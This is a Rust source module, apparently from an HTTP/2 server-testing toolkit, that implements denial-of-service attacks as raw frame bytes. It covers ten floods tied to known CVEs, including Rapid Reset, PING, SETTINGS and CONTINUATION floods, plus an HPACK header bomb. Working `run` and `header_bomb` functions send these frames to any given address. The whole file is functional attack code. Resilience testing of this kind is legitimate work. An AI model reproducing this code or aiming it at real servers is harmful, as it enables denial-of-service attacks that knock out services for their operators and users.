//! Attacks on an HTTP/2 server, as bytes.

use crate::wire::{
    END_HEADERS, END_STREAM, PREFACE, RawClient, fields, frame, grpc, kind, request, settings,
    window_update,
};
use std::io;
use std::net::SocketAddr;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use watertight_core::race;

/// A flood: the same few frames over and over.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Flood {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests without a path, which the server must reset itself.
    Malformed,
    /// PING, each of which wants an answer (CVE-2019-9512).
    Ping,
    /// SETTINGS, each of which wants an answer (CVE-2019-9515).
    Settings,
    /// PRIORITY of streams that aren't there (CVE-2019-9513).
    Priority,
    /// WINDOW_UPDATE of the connection, by one byte.
    WindowUpdate,
    /// DATA without any, on one open request (CVE-2019-9518).
    EmptyData,
    /// RST_STREAM of a stream that was closed long ago.
    Reset,
    /// Frames of a type that doesn't exist, which must be ignored.
    Unknown,
    /// One header block that never ends (CVE-2024-27316).
    Continuation,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::Malformed,
        Self::Ping,
        Self::Settings,
        Self::Priority,
        Self::WindowUpdate,
        Self::EmptyData,
        Self::Reset,
        Self::Unknown,
        Self::Continuation,
    ];

    /// What is sent once, after the preface.
    #[must_use]
    pub fn begin(self) -> Vec<u8> {
        let open = grpc("/test.Echo/Say", &[]);
        let get = request("GET", "/", &[]);
        match self {
            Self::EmptyData => frame(kind::HEADERS, END_HEADERS, 1, &open),
            Self::Continuation => frame(kind::HEADERS, END_STREAM, 1, &get),
            Self::Reset => frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &get),
            Self::RapidReset
            | Self::Malformed
            | Self::Ping
            | Self::Settings
            | Self::Priority
            | Self::WindowUpdate
            | Self::Unknown => Vec::new(),
        }
    }

    /// What is sent again and again; `round` counts from 0.
    #[must_use]
    pub fn round(self, round: u32) -> Vec<u8> {
        let stream = 2 * round + 1;
        let whole = END_HEADERS | END_STREAM;
        match self {
            Self::RapidReset => [
                frame(kind::HEADERS, whole, stream, &request("GET", "/", &[])),
                frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            ]
            .concat(),
            Self::Malformed => {
                let bad = fields(&[(":method", "GET"), (":scheme", "http")]);
                frame(kind::HEADERS, whole, stream, &bad)
            }
            Self::Ping => frame(kind::PING, 0, 0, &[7; 8]),
            Self::Settings => settings(&[(4, 65_535)]),
            Self::Priority => frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 1]),
            Self::WindowUpdate => window_update(0, 1),
            Self::EmptyData => frame(kind::DATA, 0, 1, &[]),
            Self::Reset => frame(kind::RST_STREAM, 0, 1, &8_u32.to_be_bytes()),
            Self::Unknown => frame(0xfa, 0, 0, &[0; 8]),
            Self::Continuation => {
                let fat = fields(&[("x-fat", &"a".repeat(1_000))]);
                frame(kind::CONTINUATION, 0, 1, &fat)
            }
        }
    }

    /// Floods `addr` until it hangs up or `rounds_max` rounds are sent; how
    /// many were. What the server says is read and thrown away.
    ///
    /// # Errors
    ///
    /// If it can't connect.
    ///
    /// # Cancel safety
    ///
    /// The connection is dropped.
    pub async fn run(self, addr: SocketAddr, rounds_max: u32) -> io::Result<u32> {
        let tcp = tokio::net::TcpStream::connect(addr).await?;
        let (mut read, mut write) = tcp.into_split();
        let drain = async {
            let mut sink = vec![0; 64 * 1024];
            while !matches!(read.read(&mut sink).await, Ok(0) | Err(_)) {}
        };
        let mut rounds = 0;
        let send = async {
            let hello = [PREFACE, &settings(&[]), &self.begin()].concat();
            let mut sent = write.write_all(&hello).await;
            while sent.is_ok() && rounds < rounds_max {
                // A few at once, or the client would be the bottleneck.
                let some: Vec<u8> = (rounds..rounds + 16).flat_map(|i| self.round(i)).collect();
                rounds += 16;
                sent = write.write_all(&some).await;
            }
        };
        // Whichever side notices first that the server has hung up.
        race(drain, send).await;
        Ok(rounds)
    }
}

/// A header bomb: one field of 4,000 bytes, put into the compression table and
/// then named by one byte each, `times` in a request, on `streams` streams
/// whose windows are shut. Gives back the client that holds them open.
///
/// # Errors
///
/// If the server hangs up, which is a fine answer to it.
///
/// # Cancel safety
///
/// The connection is dropped.
pub async fn header_bomb(addr: SocketAddr, streams: u32, times: usize) -> io::Result<RawClient> {
    let mut client = RawClient::connect(addr, &[(4, 0)]).await?;
    for i in 0..streams {
        let mut block = request("GET", "/", &[]);
        if i == 0 {
            // Literal with indexing, new name: it gets index 62.
            block.push(0x40);
            block.extend([5, b'x', b'-', b'f', b'a', b't', 127, 0xa1, 0x1e]);
            block.extend([b'a'; 4_000]);
        }
        block.extend(std::iter::repeat_n(0x80 | 62, times));
        let whole = END_HEADERS | END_STREAM;
        client
            .send(&frame(kind::HEADERS, whole, 2 * i + 1, &block))
            .await?;
    }
    Ok(client)
}
